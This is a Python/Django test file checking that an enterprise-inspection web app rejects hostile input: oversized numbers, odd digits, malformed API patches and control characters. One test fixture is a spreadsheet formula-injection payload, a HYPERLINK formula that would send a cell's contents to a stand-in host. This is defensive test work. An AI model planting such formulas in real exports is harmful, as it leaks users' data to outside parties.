"""Bad input gets a clear answer, never a server error: numbers beyond 64 bits, digits that are
not ASCII ("²"), words where numbers belong, and a code with a slash."""

from __future__ import annotations

import io
import json
from typing import Any

from django.urls import reverse
from openpyxl import load_workbook

from onevisit.inspections.tests.base import VisitTestCase
from onevisit.lib.params import whole_number

HOSTILE = ["99999999999999999999", "9223372036854775808", "²", "abc", "-1", " ", "1e3"]


class HostileQueryTest(VisitTestCase):
    def test_it_reads_only_plain_bounded_whole_numbers(self) -> None:
        assert whole_number("42") == 42
        assert whole_number("²") is None and whole_number("9" * 20) is None
        assert whole_number("91", high=90) is None and whole_number("0", low=1) is None

    def test_it_answers_every_hostile_number_without_a_server_error(self) -> None:
        pages = [
            (self.alice, reverse("rectification:ledger"), "body"),
            (None, reverse("draws:draw_results"), "draw"),
            (self.alice, reverse("planning:rules"), "edit"),
            (self.alice, reverse("registry:enterprise_list"), "page"),
        ]
        for user, url, name in pages:
            client = self.client_for(user)
            for value in HOSTILE:
                response = client.get(url, {name: value})
                assert response.status_code < 500, (url, name, value, response.status_code)

    def test_it_drops_what_cannot_be_in_a_code(self) -> None:
        response = self.client_for(None).get(reverse("inspections:verify_entry"), {"code": "a/b"})
        assert response.status_code == 302 and response["Location"].endswith("/v/ab")


class SpreadsheetTest(VisitTestCase):
    """Spreadsheets are code: a name that looks like a formula comes back as text, and a control
    character stored by some other way does not break the export."""

    def test_it_exports_formula_looking_text_as_text(self) -> None:
        from onevisit.testing import make_enterprise

        trap = '=HYPERLINK("http://x/?leak="&B3,"点击查看详情")'
        make_enterprise(trap, serial=7, legal_representative="张\x05三")
        response = self.client_for(self.alice).get(reverse("registry:enterprise_export"))
        assert response.status_code == 200
        sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells)  # nothing runs as a formula
        values = {cell.value for cell in cells}
        assert trap in values and "张三" in values


class HostileApiTest(VisitTestCase):
    """The API validates at the edge: every answer to bad input is a documented 4xx."""

    def bearer(self, user: object) -> Any:
        from django.test import Client

        from onevisit.accounts.actions import do_create_api_token

        _, raw = do_create_api_token(user=user, name="fuzz")  # type: ignore[arg-type]
        return Client(headers={"Authorization": f"Bearer {raw}"})

    def test_it_refuses_numbers_beyond_the_database(self) -> None:
        client = self.bearer(self.supervisor)
        huge = "99999999999999999999"
        for url in [
            f"/api/public/draw-results?draw={huge}",
            f"/api/public/draw-results?offset={2**63}",
            f"/api/public/draw-results?limit={2**63}",
            f"/api/enterprises/?page={2**59 + 1}",
            f"/api/inspectors/?body_id={2**63}",
            f"/api/enterprises/{huge}",
            f"/api/public/draws/{huge}",
        ]:
            assert client.get(url).status_code == 422, url

    def test_it_answers_an_unknown_api_path_in_json(self) -> None:
        response = self.client_for(None).get("/api/bodies/null,null")
        assert response.status_code in {404, 422} and response["Content-Type"].startswith(
            "application/json"
        )
        assert self.client_for(None).get("/api/nowhere").json() == {"detail": "Not Found"}

    def test_it_refuses_null_and_non_objects_in_a_partial_update(self) -> None:
        client = self.bearer(self.supervisor)
        enterprise = self.bearing
        inspector = self.ivan_inspector
        for url, body in [
            (f"/api/enterprises/{enterprise.pk}", {"address": None}),
            (f"/api/enterprises/{enterprise.pk}", {"former_names": None}),
            (f"/api/enterprises/{enterprise.pk}", {"legal_representative": None}),
            (f"/api/enterprises/{enterprise.pk}", [None, None]),
            (f"/api/enterprises/{enterprise.pk}", {"adress": "misspelt"}),
            (f"/api/inspectors/{inspector.pk}", {"phone": None}),
            (f"/api/inspectors/{inspector.pk}", {"phone": "0635\n8888"}),
            (f"/api/inspectors/{inspector.pk}", {"certificate_valid_until": "7955-01-01"}),
            (f"/api/inspectors/{inspector.pk}", {"certificate_valid_from": "0001-01-01"}),
            (f"/api/enterprises/{enterprise.pk}", {"legal_representative": "张\x05三"}),
        ]:
            response = client.patch(url, json.dumps(body), content_type="application/json")
            assert response.status_code == 422, (url, body, response.content)
        enterprise.refresh_from_db()
        assert "\x05" not in enterprise.legal_representative

    def test_it_documents_every_error_it_answers(self) -> None:
        schema = self.client_for(None).get("/api/openapi.json").json()
        patch = schema["paths"]["/api/enterprises/{enterprise_id}"]["patch"]["responses"]
        assert {"200", "400", "401", "403", "404", "422"} <= set(patch)
        public = schema["paths"]["/api/public/draws"]["get"]["responses"]
        assert "401" not in public and "422" in public
